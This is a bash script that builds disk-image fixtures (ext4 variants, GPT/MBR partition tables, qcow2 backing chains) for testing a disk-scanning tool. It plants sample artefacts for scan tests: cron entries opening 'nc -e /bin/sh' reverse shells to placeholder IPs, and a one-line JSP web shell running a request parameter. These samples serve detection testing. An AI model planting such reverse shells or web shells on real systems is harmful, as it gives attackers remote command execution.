#!/usr/bin/env bash
# Builds vmscope's disk fixtures with the real tools into testdata/out
# (git-ignored). The images are cached: testdata/out is a link to a cache
# folder named by the hash of this script and of the tree generator, so a
# fixture is rebuilt only when what makes it changes.
#
# What it builds (all from the deterministic trees of testdata/gentree):
#   tree/ tree-small/ tree2/ tree-fat/   the source trees (the reference)
#   ext4.img            ext4, 4 KiB blocks, metadata_csum, 64bit, flex_bg, htree (e2fsck -D)
#   ext4-nocsum-1k.img  ext4 without metadata_csum and 64bit, 1 KiB blocks
#   ext4-64k.img        ext4 with 64 KiB blocks (small tree)
#   ext4-inline.img     ext4 with inline_data (small tree)
#   ext4-128.img        ext4 with 128-byte inodes (small tree)
#   ext3.img ext2.img   the same tree with block maps: ext3 4 KiB blocks, ext2 2 KiB blocks and 128-byte inodes
#   ext4-frag.img       a file written by debugfs into the gaps of deleted files
#   gpt.img             GPT: p1 ext4 (tree), p2 ext4 (tree2)
#   mbr.img             MBR: p1 FAT32 (tree-fat), p2 ext4 (tree2)
#   mbr-logical.img     MBR: p1 ext4, p2 extended holding logical p5, p6, p7 (ext4 each, written
#                       by sfdisk); p7 holds /etc/cron.d/job with VMSCOPE_MARKER_P2
#   gpt.qcow2 gpt-v2.qcow2 gpt-zlib.qcow2 gpt-zstd.qcow2   qemu-img convert of gpt.img
#   chain-base.qcow2 <- chain-mid.qcow2 <- chain-top.qcow2  3-layer chain: mid by a
#       relative backing path, top by an absolute one; layers hold filesystem changes
#       (qemu-img convert -B) and qemu-io writes past the filesystem
#   ext4-changed.img    ext4.img changed by debugfs (the content chain-mid holds), with
#                       nanosecond and post-2038 (epoch bits) timestamps set by debugfs sif
#   overlay-raw.qcow2   qcow2 overlay on the raw ext4.img, holding ext4-changed.img's changes
#   scan.img scan.qcow2 scan-overlay.qcow2 scan-p1.img scan-p2.img
#                       GPT disk with planted artefacts for the scan tests (see gentree -kind scan);
#                       the overlay adds one in its own layer only
set -euo pipefail
export LC_ALL=C
here=$(cd "$(dirname "$0")" && pwd)
repo=$(dirname "$here")
PATH=$PATH:/usr/sbin:/sbin

hash=$(cat "$here/fixtures.sh" "$here/gentree/main.go" | sha256sum | cut -c1-16)
cache=${VMSCOPE_CACHE:-${XDG_CACHE_HOME:-$HOME/.cache}/vmscope}/fixtures-$hash
out=$here/out
mkdir -p "$(dirname "$cache")"
# One build at a time per cache folder (parallel checkouts share the cache).
exec 9>"$cache.lock"
flock 9

if [ -f "$cache/.done" ]; then
  if [ "$(readlink "$out" 2>/dev/null)" != "$cache" ]; then
    rm -rf "$out"
    ln -s "$cache" "$out"
  fi
  exit 0
fi

for tool in mkfs.ext4 debugfs e2fsck qemu-img qemu-io sfdisk mkfs.vfat mcopy; do
  command -v "$tool" >/dev/null || { echo "fixtures.sh: $tool missing (run scripts/deps.sh)" >&2; exit 1; }
done

# Builds of other versions of this script untouched for a week are pruned
# (a recent one may belong to another checkout).
find "$(dirname "$cache")" -maxdepth 1 -name 'fixtures-*' ! -name "fixtures-$hash" ! -name '*.lock' -mtime +7 -exec rm -rf {} + 2>/dev/null || true
rm -rf "$cache"
mkdir -p "$cache"
cd "$cache"
log() { printf 'fixtures: %s\n' "$*" >&2; }

gentree() { (cd "$repo" && go run ./testdata/gentree -kind "$1" "$cache/$2"); }
log "source trees"
gentree main tree
gentree small tree-small
gentree second tree2
gentree fat tree-fat

UUID=5f1c0a2e-8d3b-4c71-9a60-2b7e4d9c1f01
mk() { # mk IMG SIZE TREE mkfs-args...
  local img=$1 size=$2 tree=$3
  shift 3
  log "$img"
  rm -f "$img"
  mkfs.ext4 -q -F -E root_owner=0:0 -U "$UUID" -d "$tree" "$@" "$img" "$size" 2>&1 | grep -v -E '^(Creating regular file|128-byte inodes)' >&2 || true
  # Index every directory (htree), as a long-lived system's are.
  e2fsck -fyD "$img" >/dev/null 2>&1 || [ $? -le 2 ]
  e2fsck -fn "$img" >/dev/null 2>&1
}
mk ext4.img 400M tree -L vmscope-ext4 -t ext4 -b 4096 -I 256
mk ext4-nocsum-1k.img 400M tree -t ext4 -O ^metadata_csum,^64bit -b 1024 -I 256
mk ext4-64k.img 1200M tree-small -t ext4 -b 65536
mk ext4-inline.img 64M tree-small -t ext4 -O inline_data
mk ext4-128.img 64M tree-small -t ext4 -I 128
mk ext3.img 400M tree -t ext3 -b 4096 -I 256
mk ext2.img 400M tree -t ext2 -b 2048 -I 128

log "ext4-frag.img"
gentree frag tree-frag
mkfs.ext4 -q -F -E root_owner=0:0 -U "$UUID" -d tree-frag -t ext4 -b 4096 ext4-frag.img 24M 2>&1 | grep -v '^Creating regular file' >&2 || true
cmds=$(for i in $(seq 0 2 1999); do printf 'rm /fill/%04d\n' "$i"; done)
head -c 6291456 tree/data/big.bin > frag-source.bin
printf '%s\nwrite frag-source.bin /fragmented.bin\n' "$cmds" | debugfs -w -f - ext4-frag.img >/dev/null 2>&1
e2fsck -fn ext4-frag.img >/dev/null 2>&1

log "ext4-changed.img"
cp --sparse=always ext4.img ext4-changed.img
printf 'hello from the overlay\n' > new-file.txt
debugfs -w -f - ext4-changed.img >/dev/null 2>&1 <<'CMDS'
write new-file.txt /etc/new-file.txt
rm /etc/shadow
mkdir /var-new
sif /etc/passwd mode 0100600
sif /etc/new-file.txt mtime_extra 0x1d6f3454
sif /etc/new-file.txt atime_extra 0x00000a28
sif /etc/new-file.txt ctime_extra 0xee6b27fc
sif /etc/new-file.txt crtime 20230102030405
sif /etc/new-file.txt crtime_extra 0x00000004
sif /etc/hostname mtime_extra 0x00001001
CMDS
e2fsck -fn ext4-changed.img >/dev/null 2>&1

log "gpt.img"
mk p2.img 32M tree2 -L data -t ext4
rm -f gpt.img
truncate -s 480M gpt.img
sfdisk -q gpt.img <<'PT'
label: gpt
label-id: 8B4B9A34-6A1C-4E1B-9F1A-3C2D1E0F4A5B
start=2048, size=819200, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name="root"
start=821248, size=65536, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name="data"
PT
dd if=ext4.img of=gpt.img bs=1M seek=1 conv=notrunc,sparse status=none
dd if=p2.img of=gpt.img bs=512 seek=821248 conv=notrunc,sparse status=none

log "mbr.img"
rm -f fat.img mbr.img
mkfs.vfat -F 32 -n VMSCOPEFAT -i 1234ABCD -C fat.img 65536 >/dev/null
(cd tree-fat && MTOOLS_SKIP_CHECK=1 mcopy -s -m -i ../fat.img ./* ::/)
truncate -s 120M mbr.img
sfdisk -q mbr.img <<'PT'
label: dos
label-id: 0x5eed1234
start=2048, size=131072, type=c
start=133120, size=65536, type=83
PT
dd if=fat.img of=mbr.img bs=512 seek=2048 conv=notrunc,sparse status=none
dd if=p2.img of=mbr.img bs=512 seek=133120 conv=notrunc,sparse status=none

log "mbr-logical.img"
# An extended partition with three logical ones (Linux numbers them 5, 6,
# 7); sfdisk writes the chain of extended boot records.
for i in 1 5 6 7; do
  rm -rf "tree-l$i"
  mkdir -p "tree-l$i/etc"
  printf 'partition %s\n' "$i" > "tree-l$i/etc/which"
done
mkdir -p tree-l7/etc/cron.d
printf '* * * * * root nc -e /bin/sh 203.0.113.7 4444 # VMSCOPE_MARKER_P2\n' > tree-l7/etc/cron.d/job
for i in 1 5 6 7; do mk "l$i.img" 8M "tree-l$i" -L "logical$i" -t ext4; done
rm -f mbr-logical.img
truncate -s 64M mbr-logical.img
sfdisk -q mbr-logical.img <<'PT'
label: dos
label-id: 0x10c1ca15
start=2048, size=16384, type=83
start=18432, size=110592, type=5
start=20480, size=16384, type=83
start=38912, size=16384, type=83
start=57344, size=16384, type=83
PT
for i in 1 5 6 7; do
  # Where sfdisk put partition i ("mbr-logical.img7 : start=       57344, ...").
  start=$(sfdisk -d mbr-logical.img | awk -v p="mbr-logical.img$i" '$1 == p { sub(/,/, "", $4); print $4 }')
  dd if="l$i.img" of=mbr-logical.img bs=512 seek="$start" conv=notrunc,sparse status=none
done
rm -rf l1.img l5.img l6.img l7.img tree-l1 tree-l5 tree-l6 tree-l7

log "qcow2 conversions"
qemu-img convert -f raw -O qcow2 gpt.img gpt.qcow2
qemu-img convert -f raw -O qcow2 -o compat=0.10 gpt.img gpt-v2.qcow2
qemu-img convert -f raw -O qcow2 -c gpt.img gpt-zlib.qcow2
qemu-img convert -f raw -O qcow2 -c -o compression_type=zstd gpt.img gpt-zstd.qcow2

log "3-layer chain"
# The disk is 8 MiB larger than the filesystem: qemu-io writes go past it.
cp --sparse=always ext4.img chain-src.img
truncate -s 408M chain-src.img
qemu-img convert -f raw -O qcow2 chain-src.img chain-base.qcow2
qemu-io -f qcow2 -c 'write -P 0x11 400M 1M' -c 'write -P 0x22 402M 64k' -c 'write -z 403M 128k' chain-base.qcow2 >/dev/null
# mid: the filesystem changes of ext4-changed.img (only the blocks debugfs
# changed, written by qemu-io), relative backing path.
(cd "$repo" && go run ./testdata/blkdiff "$cache/ext4.img" "$cache/ext4-changed.img" "$cache/chunks") > writes.txt
qemu-img create -q -f qcow2 -b chain-base.qcow2 -F qcow2 chain-mid.qcow2
qio() { # qio IMG FORMAT: the writes of writes.txt, one qemu-io call
  local args=()
  while read -r line; do args+=(-c "$line"); done < writes.txt
  qemu-io -f "$2" "${args[@]}" "$1" >/dev/null
}
qio chain-mid.qcow2 qcow2
qemu-io -f qcow2 -c 'write -P 0x33 400M 64k' -c 'write -P 0x44 405M 192k' chain-mid.qcow2 >/dev/null
# Relative: qemu-img wrote "chain-base.qcow2" as given.
qemu-img create -q -f qcow2 -b "$cache/chain-mid.qcow2" -F qcow2 chain-top.qcow2
qemu-io -f qcow2 -c 'write -P 0x55 400M 4k' -c 'write -z 402M 64k' -c 'write -P 0x66 406M 1M' -c 'discard 405M 64k' chain-top.qcow2 >/dev/null
rm -f chain-src.img

log "overlay on a raw base"
qemu-img create -q -f qcow2 -b ext4.img -F raw overlay-raw.qcow2
qio overlay-raw.qcow2 qcow2

log "scan fixtures"
# p1: artefacts in nested directories, a sparse file, a big file (straddling
# a scan block boundary, at its end); p2: a planted cron job. scan-overlay
# holds one more artefact in its overlay layer only.
gentree scan tree-scan
cp -a tree2 tree-scan2
mkdir -p tree-scan2/etc/cron.d
printf '* * * * * root nc -e /bin/sh 203.0.113.5 4444 # VMSCOPE_MARKER_P2\n' > tree-scan2/etc/cron.d/job
mk scan-p1.img 160M tree-scan -L scanroot -t ext4 -b 4096
mk scan-p2.img 32M tree-scan2 -L scandata -t ext4
gptdisk() { # gptdisk OUT P1 P2
  rm -f "$1"
  truncate -s 200M "$1"
  sfdisk -q "$1" <<'PT'
label: gpt
label-id: 4B1D2C3E-0F1A-4B5C-8D7E-9F0A1B2C3D4E
start=2048, size=327680, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name="root"
start=329728, size=65536, type=0FC63DAF-8483-4772-8E79-3D69D8477DE4, name="data"
PT
  dd if="$2" of="$1" bs=1M seek=1 conv=notrunc,sparse status=none
  dd if="$3" of="$1" bs=512 seek=329728 conv=notrunc,sparse status=none
}
gptdisk scan.img scan-p1.img scan-p2.img
qemu-img convert -f raw -O qcow2 scan.img scan.qcow2
cp --sparse=always scan-p1.img scan-p1-changed.img
printf '<%%@ page import="java.io.*" %%><%% Runtime.getRuntime().exec(request.getParameter("c")); // VMSCOPE_MARKER_OVERLAY %%>\n' > overlay-shell.jsp
debugfs -w -R 'write overlay-shell.jsp /var/www/html/cmd.jsp' scan-p1-changed.img >/dev/null 2>&1
gptdisk scan-changed.img scan-p1-changed.img scan-p2.img
(cd "$repo" && go run ./testdata/blkdiff "$cache/scan.img" "$cache/scan-changed.img" "$cache/chunks2") > writes.txt
qemu-img create -q -f qcow2 -b scan.qcow2 -F qcow2 scan-overlay.qcow2
qio scan-overlay.qcow2 qcow2
rm -rf scan-p1-changed.img scan-changed.img overlay-shell.jsp chunks2

rm -rf frag-source.bin new-file.txt p2.img fat.img chunks writes.txt
chmod a-w *.img *.qcow2
touch .done
rm -rf "$out"
ln -s "$cache" "$out"
log "done: $out -> $cache"
